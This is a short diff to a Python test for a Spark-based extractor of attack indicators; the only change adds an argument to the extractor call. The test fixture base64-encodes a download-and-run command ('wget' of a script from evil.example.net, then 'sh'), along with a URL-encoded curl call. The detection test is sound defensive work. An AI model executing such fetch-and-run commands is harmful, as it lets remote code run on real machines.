@@ -142,7 +142,7 @@ def test_indicators_open_layers(spark):
 
     hidden = base64.b64encode(b"wget http://evil.example.net/x.sh; sh x.sh").decode()
     df = spark.createDataFrame([(1, f"cmd={hidden}"), (2, "nothing here"), (3, None), (4, "curl%20http%3A%2F%2Fa.test%2Fb")], "id long, text string")
-    found = {(r["id"], r["kind"], r["value"]) for r in E.extract_indicators(df, "text", ["id"]).collect()}
+    found = {(r["id"], r["kind"], r["value"]) for r in E.extract_indicators(df, "text", ["id"], ()).collect()}
     assert {(1, "tool", "wget"), (1, "host", "evil.example.net"), (4, "host", "a.test"), (4, "tool", "curl")} <= found
     assert not [x for x in found if x[0] in (2, 3)]
 
